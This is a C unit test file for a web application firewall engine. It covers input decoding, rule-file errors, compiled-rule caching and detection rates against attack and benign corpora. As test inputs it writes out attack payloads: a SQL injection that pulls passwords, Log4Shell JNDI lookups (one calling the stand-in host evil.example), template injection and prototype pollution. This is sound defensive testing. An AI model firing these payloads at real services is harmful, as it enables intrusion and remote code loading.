/*
 * The WAF engine: transformations, the rule file parser, and the corpus measured
 * at the engine (each attack placed where the HTTP test places it). The HTTP-level
 * gate is tests/integration/test_waf.c; this one names every miss and false
 * positive when it fails, which is what a rule author needs.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>

#include "payd/waf.h"

static char *
xf(pd_waf_variant_t v, const char *in)
{
    static char out[1024];
    size_t n = pd_waf_transform(v, (const uint8_t *)in, strlen(in), (uint8_t *)out, sizeof(out) - 1);
    out[n] = '\0';
    return out;
}

static void
transformations(void **state)
{
    (void)state;
    assert_string_equal(xf(PD_WV_RAW, "%253Cscript%253E"), "<script>");          /* double encoding */
    assert_string_equal(xf(PD_WV_RAW, "a+b%20C"), "a b c");                      /* '+' is a space */
    assert_string_equal(xf(PD_WV_NORM, "&#60;ScRiPt&#x3e;&lt;"), "<script><");   /* entities */
    assert_string_equal(xf(PD_WV_NORM, "ja&tab;va"), "ja va");
    assert_string_equal(xf(PD_WV_NORM, "\\u0061\\x62"), "ab");                   /* JS escapes */
    assert_string_equal(xf(PD_WV_NORM, "%uff1cscript%uff1e"), "<script>");       /* %u + full width */
    assert_string_equal(xf(PD_WV_NORM, "\xef\xbc\x9cx\xef\xbc\x9e"), "<x>");     /* full width UTF-8 */
    assert_string_equal(xf(PD_WV_NORM, "union/**/select  \t\n1"), "union select 1");
    assert_string_equal(xf(PD_WV_NOSPACE, "<f o r m"), "<form");
    assert_string_equal(xf(PD_WV_NORM, "unterminated /* comment"), "unterminated ");
    assert_string_equal(xf(PD_WV_NORM, "100% cotton & 50%"), "100% cotton & 50%"); /* not escapes: unchanged */
    assert_string_equal(xf(PD_WV_NORM, "Björn Åström"), "björn Åström");        /* only ASCII is folded */
    /* never longer than the input, whatever it holds */
    const char *tricky = "&#x10FFFF;&#65;%u0041\\u00e9%";
    uint8_t out[64];
    for (int v = 0; v < PD_WV_COUNT; v++)
        assert_true(pd_waf_transform((pd_waf_variant_t)v, (const uint8_t *)tricky, strlen(tricky), out, sizeof(out)) <=
                    strlen(tricky));
}

static void
rule_file_errors_name_the_line(void **state)
{
    (void)state;
    pd_waf_rule_t *rules = NULL;
    size_t n = 0;
    char err[256];
    const char ok[] = "# comment\n\n100 sqli 1 5 any norm union\\s+select\n200 xss 2 3 headers nospace <script\n";
    assert_int_equal(pd_waf_rules_parse(ok, strlen(ok), "t.rules", &rules, &n, err, sizeof(err)), 0);
    assert_int_equal(n, 2);
    assert_int_equal(rules[1].id, 200);
    assert_int_equal(rules[1].paranoia, 2);
    assert_int_equal(rules[1].target, PD_WT_HEADERS);
    assert_string_equal(rules[0].pattern, "union\\s+select");
    static const struct {
        const char *text, *msg;
    } bad[] = {
        {"x sqli 1 5 any norm a\n", "t.rules:1: the id must be a positive integer"},
        {"\n1 sqli 9 5 any norm a\n", "t.rules:2: paranoia must be 1 to 4"},
        {"1 sqli 1 0 any norm a\n", "t.rules:1: score must be 1 to 100"},
        {"1 sqli 1 5 body norm a\n", "t.rules:1: target must be one of any, args, headers, ua, hname"},
        {"1 sqli 1 5 any lower a\n", "t.rules:1: variant must be one of raw, norm, nospace"},
        {"1 sqli 1 5 any norm   \n", "t.rules:1: missing pattern"},
        {"1 sqli 1 5 any norm a\n1 sqli 1 5 any norm a\n", "t.rules:2: rule 1 repeats an earlier rule"},
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        pd_waf_rule_t *r2 = NULL;
        size_t n2 = 0;
        assert_int_equal(pd_waf_rules_parse(bad[i].text, strlen(bad[i].text), "t.rules", &r2, &n2, err, sizeof(err)),
                         PD_ERR_CONFIG);
        assert_string_equal(err, bad[i].msg);
        pd_waf_rules_free(r2, n2);
    }
    pd_waf_rules_free(rules, n);
}

static void
a_pattern_hyperscan_refuses_is_named(void **state)
{
    (void)state;
    char path[] = "/tmp/payd-waf-XXXXXX";
    int fd = mkstemp(path);
    const char text[] = "990001 custom 1 5 any norm (a)\\1\n"; /* back-references are not supported */
    assert_true(write(fd, text, strlen(text)) == (ssize_t)strlen(text));
    close(fd);
    pd_waf_config_t cfg = {.mode = PD_WAF_BLOCK, .paranoia = 1, .threshold = 5, .rules_file = path, .route_modes = (char[]){""}};
    pd_waf_t *w = NULL;
    char err[256];
    assert_int_equal(pd_waf_new(&w, &cfg, err, sizeof(err)), PD_ERR_CONFIG);
    assert_non_null(strstr(err, "rule 990001: pattern refused by Hyperscan"));
    cfg.rules_file = (char[]){""};
    cfg.route_modes = (char[]){"POST /v1/tokens=maybe"};
    assert_int_equal(pd_waf_new(&w, &cfg, err, sizeof(err)), PD_ERR_CONFIG);
    assert_non_null(strstr(err, "route_modes"));
    unlink(path);
}

static pd_waf_t *
builtin(void)
{
    pd_waf_config_t cfg = {.mode = PD_WAF_BLOCK, .paranoia = 1, .threshold = 5, .rules_file = (char[]){""}, .route_modes = (char[]){""}};
    pd_waf_t *w = NULL;
    char err[256] = "";
    if (pd_waf_new(&w, &cfg, err, sizeof(err)) != 0)
        fail_msg("built-in rules do not load: %s", err);
    return w;
}

/* a start with [waf] cache_dir reads the groups the previous one compiled; a damaged or
 * truncated file is compiled anew (and replaced), a different paranoia level has its own
 * files; the verdicts are the same whichever way a database came */
static pd_waf_t *
with_cache(const char *dir, int64_t paranoia)
{
    pd_waf_config_t cfg = {.mode = PD_WAF_BLOCK, .paranoia = paranoia, .threshold = 5, .rules_file = (char[]){""},
                           .route_modes = (char[]){""}, .cache_path = dir};
    pd_waf_t *w = NULL;
    char err[256] = "";
    if (pd_waf_new(&w, &cfg, err, sizeof(err)) != 0)
        fail_msg("built-in rules do not load: %s", err);
    return w;
}

static int
attack_score(pd_waf_t *w)
{
    static const char sqli[] = "1' UNION SELECT password FROM users--";
    pd_waf_verdict_t v;
    memset(&v, 0, sizeof(v));
    assert_int_equal(pd_waf_scan(w, PD_WT_ARGS, "param:description", (const uint8_t *)sqli, strlen(sqli), &v), 0);
    return v.score;
}

static size_t
cache_files(const char *dir, char first[512])
{
    char cmd[600], line[512];
    size_t n = 0;
    snprintf(cmd, sizeof(cmd), "ls %s/*.hsdb 2>/dev/null", dir);
    FILE *p = popen(cmd, "r");
    assert_non_null(p);
    while (fgets(line, sizeof(line), p) != NULL)
        if (n++ == 0 && first != NULL)
            snprintf(first, 512, "%.*s", (int)strcspn(line, "\n"), line);
    pclose(p);
    return n;
}

static void
compiled_rules_are_kept_in_the_cache_dir(void **state)
{
    (void)state;
    char dir[] = "/tmp/payd-waf-cache-XXXXXX", sub[64], first[512];
    assert_non_null(mkdtemp(dir));
    snprintf(sub, sizeof(sub), "%s/c", dir); /* made by the first save */
    pd_waf_t *w = builtin();
    int want = attack_score(w);
    assert_true(want >= 5);
    pd_waf_free(w);

    /* the first start compiles each distinct group once (groups with the same rules, such
     * as the header and User-Agent groups of a variant without UA rules, share a file) */
    w = with_cache(sub, 1);
    size_t first_start = pd_waf_groups_cached(w);
    assert_int_equal(attack_score(w), want);
    pd_waf_free(w);
    size_t files = cache_files(sub, first);
    assert_true(files > 0);
    size_t groups = first_start + files;

    w = with_cache(sub, 1);
    assert_int_equal(pd_waf_groups_cached(w), groups);
    assert_int_equal(attack_score(w), want);
    pd_waf_free(w);

    /* one byte of a file flipped, then the file truncated: compiled again (once: the
     * replacement serves the next group with those rules), the rest read */
    FILE *f = fopen(first, "r+b");
    assert_non_null(f);
    assert_int_equal(fseek(f, -10, SEEK_END), 0);
    int c = fgetc(f);
    assert_int_equal(fseek(f, -10, SEEK_END), 0);
    fputc(c ^ 0x55, f);
    fclose(f);
    w = with_cache(sub, 1);
    assert_int_equal(pd_waf_groups_cached(w), groups - 1);
    assert_int_equal(attack_score(w), want);
    pd_waf_free(w);
    assert_int_equal(truncate(first, 30), 0);
    w = with_cache(sub, 1);
    assert_int_equal(pd_waf_groups_cached(w), groups - 1);
    pd_waf_free(w);
    w = with_cache(sub, 1); /* replaced by the compile before */
    assert_int_equal(pd_waf_groups_cached(w), groups);
    pd_waf_free(w);

    /* other rules, other files */
    w = with_cache(sub, 4);
    assert_true(pd_waf_groups_cached(w) < groups);
    pd_waf_free(w);
    assert_true(cache_files(sub, NULL) > files);

    /* a directory that cannot be made: compiled, nothing kept, no error */
    w = with_cache("/proc/payd-waf-cache", 1);
    assert_int_equal(pd_waf_groups_cached(w), 0);
    assert_int_equal(attack_score(w), want);
    pd_waf_free(w);
    char rm[128];
    snprintf(rm, sizeof(rm), "rm -rf %s", dir);
    assert_int_equal(system(rm), 0);
}

/* the score one corpus ingredient gets where the HTTP test puts it */
static int
score(pd_waf_t *w, const char *location, const char *payload, size_t len, pd_waf_verdict_t *v)
{
    memset(v, 0, sizeof(*v));
    if (strcmp(location, "arg") == 0) {
        assert_int_equal(pd_waf_scan(w, PD_WT_ARGS, "param:description", (const uint8_t *)payload, len, v), 0);
    } else {
        const char *name = location + strlen("header:");
        char lname[64];
        snprintf(lname, sizeof(lname), "%s", name);
        for (char *c = lname; *c; c++)
            *c = (char)(*c >= 'A' && *c <= 'Z' ? *c + 32 : *c);
        assert_int_equal(pd_waf_scan(w, PD_WT_HNAME, "header-name", (const uint8_t *)lname, strlen(lname), v), 0);
        pd_waf_target_t t = strcmp(lname, "user-agent") == 0 ? PD_WT_UA : PD_WT_HEADERS;
        assert_int_equal(pd_waf_scan(w, t, "header", (const uint8_t *)payload, len, v), 0);
    }
    return v->score;
}

static void
run_corpus(pd_waf_t *w, const char *file, bool attacks, int *hit, int *total)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/%s", PAYD_WAF_CORPUS, file);
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    char line[65536];
    bool verbose = getenv("WAF_CORPUS_VERBOSE") != NULL;
    while (fgets(line, sizeof(line), f) != NULL) {
        json_error_t e;
        json_t *o = json_loads(line, JSON_ALLOW_NUL, &e);
        assert_non_null(o);
        const char *loc = json_string_value(json_object_get(o, "location"));
        json_t *pl = json_object_get(o, "payload");
        pd_waf_verdict_t v;
        int s = score(w, loc, json_string_value(pl), json_string_length(pl), &v);
        int weight = strcmp(loc, "arg") == 0 ? 2 : 1; /* args go out twice: form and JSON */
        *total += weight;
        if (s >= 5)
            *hit += weight;
        if (verbose && (s >= 5) != attacks)
            printf("%s %s %s rules=%u %.*s\n", attacks ? "MISS" : "FALSE-POSITIVE",
                   json_string_value(json_object_get(o, "id")), loc, v.nhits ? v.ids[0] : 0, 120,
                   json_string_value(pl));
        json_decref(o);
    }
    fclose(f);
}

static void
corpus_at_the_engine(void **state)
{
    (void)state;
    pd_waf_t *w = builtin();
    int hit = 0, total = 0, fp = 0, benign = 0;
    run_corpus(w, "crs-3.3.4-attacks.jsonl", true, &hit, &total);
    run_corpus(w, "legit-dev.jsonl", false, &fp, &benign);
    printf("waf engine: %zu rules; attacks blocked %d of %d (%.1f %%); benign blocked %d of %d\n",
           pd_waf_rule_count(w), hit, total, 100.0 * hit / total, fp, benign);
    assert_int_equal(fp, 0);
    assert_true(hit * 100 >= total * 90);
    pd_waf_free(w);
}

static void
log4shell_and_prototype_pollution(void **state)
{
    (void)state;
    pd_waf_t *w = builtin();
    static const char *const attacks[] = {
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://x/y}", "${${::-j}${::-n}di:rmi://x/y}",
        "{{7*7}}", "__proto__", "{\"constructor\":{\"prototype\":{\"x\":1}}}",
    };
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        pd_waf_verdict_t v = {0};
        assert_int_equal(pd_waf_scan(w, PD_WT_ARGS, "param:x", (const uint8_t *)attacks[i], strlen(attacks[i]), &v), 0);
        if (v.score < 5)
            fail_msg("not detected: %s", attacks[i]);
    }
    pd_waf_free(w);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(transformations),
        cmocka_unit_test(rule_file_errors_name_the_line),
        cmocka_unit_test(a_pattern_hyperscan_refuses_is_named),
        cmocka_unit_test(log4shell_and_prototype_pollution),
        cmocka_unit_test(corpus_at_the_engine),
        cmocka_unit_test(compiled_rules_are_kept_in_the_cache_dir),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
